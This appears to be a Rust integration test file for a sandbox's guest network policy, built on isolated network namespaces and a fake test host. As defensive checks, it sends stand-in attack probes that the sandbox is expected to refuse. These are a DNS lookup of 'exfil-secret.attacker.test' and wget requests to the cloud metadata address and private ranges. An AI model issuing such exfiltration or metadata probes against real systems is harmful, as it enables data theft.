//! End to end: the guest network (on by default; `--allow-host` for an allow-list) with the
//! sandbox owner inside a network namespace that holds only loopback and a veth to a test
//! host in a second namespace, so no packet can leave this machine.
//!
//! Layout (per test, names carry the pid and a counter `<n>`):
//! - `mlt-s-<n>` (the owner: `matchlock run -d` runs in it): `lo`, veth `198.51.100.1/24`,
//!   default route via the test host, so a policy bug would deliver blocked flows there.
//!   `/etc/netns/mlt-s-<n>/hosts` maps `web.test` to the test host (the owner's
//!   `getaddrinfo` reads it under `ip netns exec`); its resolv.conf names the test host.
//! - `mlt-h-<n>` (the test host): veth `198.51.100.2/24` plus the "forbidden" addresses
//!   `10.11.12.13`, `169.254.169.254` and `10.0.2.2` (the guest's gateway address); an HTTP
//!   server on port 80 of all of them and a UDP logger on port 53, both logging to files the
//!   test reads to show what did and did not arrive.
//!
//! Needs root (`ip netns add`); fails loudly without it, never skips.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

// Note: busybox 1.35 `wget -T` segfaults (on the host too); the guest uses `timeout`.

use common::{env, ok, stderr, stdout};

const PAGE: &str = "hello from the test host 198.51.100.2";
/// Names and IPs the sandbox may reach; the private ones are listed on purpose: blocked
/// ranges win over the allow-list.
const ALLOW: &str = "web.test,*.web.test,198.51.100.2,10.11.12.13,169.254.169.254,10.0.2.2";

fn sh(args: &[&str]) -> Output {
    Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("spawn {args:?}: {e}"))
}

#[track_caller]
fn must(args: &[&str]) {
    let o = sh(args);
    assert!(
        o.status.success(),
        "{args:?} failed (the network tests need root for `ip netns`): {}",
        stderr(&o)
    );
}

/// Both namespaces, the veth, the hosts file and the test-host servers; all removed on drop.
struct Net {
    sandbox_ns: String,
    host_ns: String,
    etc: PathBuf,
    dir: tempfile::TempDir,
    servers: Vec<Child>,
}

impl Net {
    fn new() -> Net {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let n = format!(
            "{}-{}",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed)
        );
        let mut net = Net {
            sandbox_ns: format!("mlt-s-{n}"),
            host_ns: format!("mlt-h-{n}"),
            etc: PathBuf::from(format!("/etc/netns/mlt-s-{n}")),
            dir: tempfile::tempdir().expect("tempdir"),
            servers: Vec::new(),
        };
        net.build();
        net
    }

    fn build(&mut self) {
        let (s, h) = (self.sandbox_ns.clone(), self.host_ns.clone());
        // Interface names: at most 15 bytes.
        let tag = &s["mlt-s-".len()..];
        let (va, vb) = (format!("mlv{tag}a"), format!("mlv{tag}b"));
        must(&["ip", "netns", "add", &s]);
        must(&["ip", "netns", "add", &h]);
        must(&[
            "ip", "link", "add", &va, "type", "veth", "peer", "name", &vb,
        ]);
        must(&["ip", "link", "set", &va, "netns", &s]);
        must(&["ip", "link", "set", &vb, "netns", &h]);
        let in_ns = |ns: &str, a: &[&str]| -> Vec<String> {
            ["ip", "netns", "exec", ns]
                .iter()
                .chain(a)
                .map(|x| x.to_string())
                .collect()
        };
        let in_s = |a: &[&str]| in_ns(&s, a);
        let in_h = |a: &[&str]| in_ns(&h, a);
        for a in [
            in_s(&["ip", "link", "set", "lo", "up"]),
            in_s(&["ip", "addr", "add", "198.51.100.1/24", "dev", &va]),
            in_s(&["ip", "link", "set", &va, "up"]),
            in_s(&["ip", "route", "add", "default", "via", "198.51.100.2"]),
            in_h(&["ip", "link", "set", "lo", "up"]),
            in_h(&["ip", "addr", "add", "198.51.100.2/24", "dev", &vb]),
            in_h(&["ip", "addr", "add", "10.11.12.13/32", "dev", &vb]),
            in_h(&["ip", "addr", "add", "169.254.169.254/32", "dev", &vb]),
            in_h(&["ip", "addr", "add", "10.0.2.2/32", "dev", &vb]),
            in_h(&["ip", "link", "set", &vb, "up"]),
            in_h(&["ip", "route", "add", "default", "dev", &vb]),
        ] {
            must(&a.iter().map(String::as_str).collect::<Vec<_>>());
        }
        std::fs::create_dir_all(&self.etc).expect("create /etc/netns dir");
        std::fs::write(
            self.etc.join("hosts"),
            "127.0.0.1 localhost\n198.51.100.2 web.test\n",
        )
        .expect("hosts");
        std::fs::write(self.etc.join("resolv.conf"), "nameserver 198.51.100.2\n")
            .expect("resolv.conf");
        self.start_servers();
    }

    fn log(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn start_servers(&mut self) {
        let www = self.dir.path().join("www");
        std::fs::create_dir_all(&www).expect("www");
        std::fs::write(www.join("index.html"), PAGE).expect("index");
        let http = format!(
            "import http.server,functools,sys\n\
             h=functools.partial(http.server.SimpleHTTPRequestHandler,directory={www:?})\n\
             s=http.server.ThreadingHTTPServer(('0.0.0.0',80),h)\n\
             print('ready',flush=True)\n\
             s.serve_forever()\n",
            www = www.to_string_lossy()
        );
        let dns = "import socket\n\
             s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
             s.bind(('0.0.0.0',53))\n\
             print('ready',flush=True)\n\
             while True:\n\
             \x20 d,a=s.recvfrom(4096)\n\
             \x20 print(a[0],d,flush=True)\n";
        for (name, code) in [("http", http.as_str()), ("dns", dns)] {
            let out = std::fs::File::create(self.log(&format!("{name}.out"))).expect("log");
            let err = std::fs::File::create(self.log(&format!("{name}.log"))).expect("log");
            let child = Command::new("ip")
                .args(["netns", "exec", &self.host_ns, "python3", "-u", "-c", code])
                .stdin(Stdio::null())
                .stdout(out)
                .stderr(err)
                .spawn()
                .expect("spawn test-host server");
            self.servers.push(child);
            let ready = self.log(&format!("{name}.out"));
            let t = Instant::now();
            while !read(&ready).contains("ready") {
                assert!(
                    t.elapsed() < Duration::from_secs(20),
                    "{name} server did not start: {}",
                    read(&self.log(&format!("{name}.log")))
                );
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    }

    /// `cmd` (a `matchlock` command) run inside the sandbox owner's namespace.
    fn wrap(&self, cmd: Command) -> Command {
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.sandbox_ns])
            .arg(cmd.get_program())
            .args(cmd.get_args())
            .stdin(Stdio::null());
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => c.env(k, v),
                None => c.env_remove(k),
            };
        }
        c
    }
}

impl Drop for Net {
    fn drop(&mut self) {
        for c in &mut self.servers {
            // `ip netns exec` execs python, so this pid is the server itself.
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = sh(&["ip", "netns", "del", &self.sandbox_ns]);
        let _ = sh(&["ip", "netns", "del", &self.host_ns]);
        let _ = std::fs::remove_dir_all(&self.etc);
    }
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// The stderr of the running detached owners (for failure messages; their log file is
/// unlinked once the sandbox is ready).
fn owner_log() -> String {
    common::pids_matching("--detach=false")
        .into_iter()
        .map(|p| std::fs::read_to_string(format!("/proc/{p}/fd/2")).unwrap_or_default())
        .collect()
}

/// Runs a shell command in the guest; returns (success, stdout+stderr, elapsed).
fn guest(id: &str, script: &str) -> (bool, String, Duration) {
    let t = Instant::now();
    let o = env().run(&["exec", id, "sh", "-c", script]);
    (
        o.status.success(),
        format!("{}{}", stdout(&o), stderr(&o)),
        t.elapsed(),
    )
}

#[test]
fn guest_network_through_the_owner_stack() {
    let e = env();
    let net = Net::new();
    let mut run = e.cmd();
    run.args(["run", "--image", common::IMAGE, "-d", "--allow-host", ALLOW])
        .env("MATCHLOCK_LOG", "warn,matchlock_net=debug");
    let out = net.wrap(run).output().expect("run -d");
    let id = ok(&out).trim().to_string();
    let _guard = e.guard(&id);

    // The NIC came up from the boot config, and resolv.conf names the gateway.
    let (okk, text, _) = guest(&id, "ip addr show eth0; ip route; cat /etc/resolv.conf");
    assert!(okk, "{text}");
    assert!(text.contains("inet 10.0.2.15/24"), "{text}");
    assert!(text.contains("default via 10.0.2.2"), "{text}");
    assert!(text.contains("nameserver 10.0.2.2"), "{text}");

    // HTTP to an IP literal, through the stack.
    let (okk, text, _) = guest(&id, "timeout 20 wget -qO- http://198.51.100.2/");
    assert!(okk && text.contains(PAGE), "wget by IP: {text}");
    // By name: the owner resolves web.test from its hosts file.
    let (okk, text, _) = guest(&id, "nslookup web.test");
    assert!(
        okk && text.contains("198.51.100.2"),
        "nslookup web.test: {text}\nowner: {}",
        owner_log()
    );
    let (okk, text, _) = guest(&id, "timeout 20 wget -qO- http://web.test/by-name");
    assert!(!okk && text.contains("404"), "{text}");
    let http_log = read(&net.log("http.log"));
    assert!(http_log.contains("GET / "), "{http_log}");
    assert!(http_log.contains("GET /by-name"), "{http_log}");

    // A name the allow-list does not match: NXDOMAIN from the owner, never sent on.
    let (okk, text, _) = guest(&id, "nslookup exfil-secret.attacker.test");
    assert!(!okk && text.contains("NXDOMAIN"), "{text}");
    // An allowed name the hosts file lacks does go to the (test host's) resolver: this is
    // the control showing the DNS logger sees what leaves.
    let _ = guest(&id, "nslookup allowed-probe.web.test");
    let t = Instant::now();
    while !read(&net.log("dns.out")).contains("allowed-probe") {
        assert!(
            t.elapsed() < Duration::from_secs(20),
            "control query never reached the test host: {}",
            read(&net.log("dns.out"))
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        !read(&net.log("dns.out")).contains("exfil-secret"),
        "a refused name left the owner"
    );

    // Blocked ranges win over the allow-list: refused at once with an RST.
    for (url, tag) in [
        ("http://10.11.12.13/blocked-private", "blocked-private"),
        (
            "http://169.254.169.254/blocked-metadata",
            "blocked-metadata",
        ),
        ("http://10.0.2.2/blocked-gateway", "blocked-gateway"),
    ] {
        let (okk, text, took) = guest(&id, &format!("timeout 20 wget -qO- {url}"));
        assert!(!okk, "{url} was reachable: {text}");
        assert!(text.contains("refused"), "{url}: {text}");
        assert!(
            took < Duration::from_secs(10),
            "{url} took {took:?}: not an RST"
        );
        assert!(
            !read(&net.log("http.log")).contains(tag),
            "{url} reached the test host"
        );
    }
    // Not on the allow-list at all (an address nobody answers for: a connect attempt would
    // only time out after 10 s): refused at once.
    let (okk, text, took) = guest(&id, "timeout 20 wget -qO- http://192.0.2.1/");
    assert!(!okk && text.contains("refused"), "{text}");
    assert!(
        took < Duration::from_secs(5),
        "took {took:?}: not refused by policy"
    );
    e.kill_and_rm(&id);
}

#[test]
fn open_egress_still_blocks_private_ranges() {
    let e = env();
    let net = Net::new();
    let mut run = e.cmd();
    run.args(["run", "--image", common::IMAGE, "-d"]);
    let id = ok(&net.wrap(run).output().expect("run -d"))
        .trim()
        .to_string();
    let _guard = e.guard(&id);
    let (okk, text, _) = guest(&id, "timeout 20 wget -qO- http://198.51.100.2/open");
    assert!(!okk && text.contains("404"), "{text}");
    assert!(read(&net.log("http.log")).contains("GET /open"));
    // Any name may be resolved (it goes to the owner's resolver, here the test host).
    let _ = guest(&id, "nslookup anything.example");
    let t = Instant::now();
    while !read(&net.log("dns.out")).contains("anything") {
        assert!(t.elapsed() < Duration::from_secs(20), "query never arrived");
        std::thread::sleep(Duration::from_millis(100));
    }
    let (okk, text, took) = guest(&id, "timeout 20 wget -qO- http://10.11.12.13/open-private");
    assert!(!okk && text.contains("refused"), "{text}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(!read(&net.log("http.log")).contains("open-private"));
    // ICMP echo: the gateway answers; nothing else does (no fake reachability).
    let (okk, text, _) = guest(&id, "ping -c 1 -W 5 10.0.2.2");
    assert!(okk, "{text}");
    let (okk, text, _) = guest(&id, "ping -c 1 -W 2 198.51.100.2");
    assert!(!okk, "{text}");
    e.kill_and_rm(&id);
}

#[test]
fn no_network_means_no_nic() {
    let e = env();
    let out = e.sandbox(&["--no-network", "--", "sh", "-c", "ls /sys/class/net"]);
    let text = ok(&out);
    assert!(!text.contains("eth0"), "{text}");
}
